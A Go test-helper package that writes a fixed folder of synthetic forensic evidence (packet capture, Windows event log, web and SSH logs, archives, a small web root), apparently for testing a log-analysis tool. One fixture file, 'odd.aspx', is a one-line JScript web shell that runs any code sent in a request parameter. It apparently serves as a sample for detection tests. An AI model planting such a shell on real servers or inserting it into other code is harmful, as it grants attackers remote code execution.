// Package apptest writes a small folder of mixed evidence for the tests of the
// line and of the command line: a capture, an event log, web-server and system
// logs, a web root and an archive. It is the same every time.
//
//	apptest.Write(t.TempDir())
package apptest

import (
	"archive/zip"
	"bytes"
	"fmt"
	"net/netip"
	"os"
	"path/filepath"
	"strings"
	"time"

	"github.com/klauspost/compress/gzip"

	"longwatch/internal/simulate/chance"
	"longwatch/internal/simulate/evtxfile"
	"longwatch/internal/simulate/packet"
)

var start = time.Date(2026, 3, 2, 8, 0, 0, 0, time.UTC)

// Write makes the files below dir.
func Write(dir string) error {
	access := weblog(400)
	files := map[string][]byte{
		"net/core.pcap":        PCAP(60),
		"dc01/Security.evtx":   EVTX(900),
		"web/u_ex260302.log":   iis(300),
		"web/access.log":       access,
		"web/root/index.aspx":  []byte("<%@ Page Language=\"C#\" %>\n<html><body><%= DateTime.Now %></body></html>\n"),
		"web/root/odd.aspx":    []byte("<%@ Page Language=\"JScript\" %><% var p = Request.Item[\"k\"]; eval(p, \"unsafe\"); %>\n"),
		"linux/auth.log":       auth(200),
		"archive/older.zip":    archive("logs/access.log.1", bytes.ReplaceAll(access, []byte("/Mar/"), []byte("/Feb/"))),
		"archive/older.log.gz": packed(auth(50)),
		"notes.txt":            []byte("nothing to see\n"),
		"empty.log":            nil,
	}
	for name, content := range files {
		path := filepath.Join(dir, filepath.FromSlash(name))
		if err := os.MkdirAll(filepath.Dir(path), 0o750); err != nil {
			return err
		}
		if err := os.WriteFile(path, content, 0o600); err != nil {
			return err
		}
		if err := os.Chtimes(path, start, start); err != nil {
			return err
		}
	}
	return nil
}

// PCAP is a capture of n connections with HTTP and DNS.
func PCAP(n int) []byte {
	r := chance.New(1, "apptest")
	c := packet.NewCapture([6]byte{2, 0, 0, 0, 0, 1}, []netip.Prefix{netip.MustParsePrefix("10.0.0.0/24")}, r)
	server := &packet.Station{MAC: [6]byte{2, 0, 0, 0, 0, 2}, IP: netip.MustParseAddr("10.0.0.2")}
	for i := range n {
		at := start.Add(time.Duration(i) * time.Second)
		client := &packet.Station{MAC: [6]byte{2, 0, 0, 0, 1, byte(i)}, IP: netip.AddrFrom4([4]byte{10, 0, 0, byte(10 + i%40)})}
		c.UDP(at, client, server, 40000+uint16(i), 53, query(uint16(i), fmt.Sprintf("host%d.example.test", i%9)))
		k := c.Dial(at.Add(time.Millisecond), client, server, 50000+uint16(i), 80, packet.LAN(r))
		k.Send(packet.Client, fmt.Appendf(nil, "GET /page/%d HTTP/1.1\r\nHost: www.example.test\r\nUser-Agent: check/1.0\r\n\r\n", i))
		k.Send(packet.Server, []byte("HTTP/1.1 200 OK\r\nContent-Type: text/plain\r\nContent-Length: 6\r\n\r\nhello\n"))
		k.Close(packet.Client)
	}
	var b bytes.Buffer
	_, _ = c.WriteTo(&b) // a buffer takes everything
	return b.Bytes()
}

// query is a DNS question for the address of name (RFC 1035 section 4).
func query(id uint16, name string) []byte {
	b := []byte{byte(id >> 8), byte(id), 1, 0, 0, 1, 0, 0, 0, 0, 0, 0}
	for label := range strings.SplitSeq(name, ".") {
		b = append(append(b, byte(len(label))), label...)
	}
	return append(b, 0, 0, 1, 0, 1)
}

// EVTX is a Security log of n process starts and logons.
func EVTX(n int) []byte {
	l := &evtxfile.Log{FirstRecord: 5000}
	for i := range n {
		e := evtxfile.Event{
			Time: start.Add(time.Duration(i) * time.Second), Channel: "Security", Computer: "DC01.example.test", Keywords: 0x8020000000000000, PID: 4, TID: 8,
			Provider: evtxfile.Provider{Name: "Microsoft-Windows-Security-Auditing", GUID: "54849625-5478-4994-A5BA-3E3B0328C30D"},
		}
		if i%2 == 0 {
			e.ID, e.Task, e.Version = 4688, 13312, 2
			e.Fields = []evtxfile.Field{
				{Name: "SubjectUserName", Value: evtxfile.String("svc")}, {Name: "NewProcessName", Value: evtxfile.String(`C:\Windows\System32\cmd.exe`)},
				{Name: "CommandLine", Value: evtxfile.String(fmt.Sprintf("cmd.exe /c echo %d", i))},
			}
		} else {
			e.ID, e.Task, e.Version = 4624, 12544, 2
			e.Fields = []evtxfile.Field{
				{Name: "TargetUserName", Value: evtxfile.String("alice")}, {Name: "LogonType", Value: evtxfile.U32(3)},
				{Name: "IpAddress", Value: evtxfile.String("10.0.0.10")}, {Name: "WorkstationName", Value: evtxfile.String("WS10")},
			}
		}
		l.Add(e)
	}
	var b bytes.Buffer
	_, _ = l.WriteTo(&b) // a buffer takes everything
	return b.Bytes()
}

func weblog(n int) []byte {
	var b bytes.Buffer
	for i := range n {
		at := start.Add(time.Duration(i) * 7 * time.Second)
		fmt.Fprintf(&b, "198.51.100.%d - - [%s] \"GET /item/%d HTTP/1.1\" 200 %d \"-\" \"Mozilla/5.0\"\n", i%50, at.Format("02/Jan/2006:15:04:05 -0700"), i%20, 100+i)
	}
	return b.Bytes()
}

func iis(n int) []byte {
	var b bytes.Buffer
	b.WriteString("#Software: Microsoft Internet Information Services 10.0\r\n#Version: 1.0\r\n#Date: 2026-03-02 08:00:00\r\n" +
		"#Fields: date time s-ip cs-method cs-uri-stem cs-uri-query s-port cs-username c-ip cs(User-Agent) sc-status sc-substatus sc-win32-status time-taken\r\n")
	for i := range n {
		at := start.Add(time.Duration(i) * 11 * time.Second)
		fmt.Fprintf(&b, "%s 10.0.0.2 GET /page/%d.aspx - 443 - 203.0.113.%d Mozilla/5.0 200 0 0 %d\r\n", at.Format("2006-01-02 15:04:05"), i%12, i%30, i)
	}
	return b.Bytes()
}

func auth(n int) []byte {
	var b bytes.Buffer
	for i := range n {
		at := start.Add(time.Duration(i) * 13 * time.Second)
		fmt.Fprintf(&b, "%s gate sshd[%d]: Accepted publickey for deploy from 10.0.0.%d port %d ssh2\n", at.Format("2006-01-02T15:04:05Z07:00"), 900+i, i%20, 40000+i)
	}
	return b.Bytes()
}

func archive(name string, content []byte) []byte {
	var b bytes.Buffer
	w := zip.NewWriter(&b)
	f, err := w.CreateHeader(&zip.FileHeader{Name: name, Method: zip.Deflate, Modified: start})
	if err == nil {
		_, _ = f.Write(content) // a buffer takes everything
	}
	_ = w.Close()
	return b.Bytes()
}

func packed(content []byte) []byte {
	var b bytes.Buffer
	w := gzip.NewWriter(&b)
	_, _ = w.Write(content) // a buffer takes everything
	_ = w.Close()
	return b.Bytes()
}
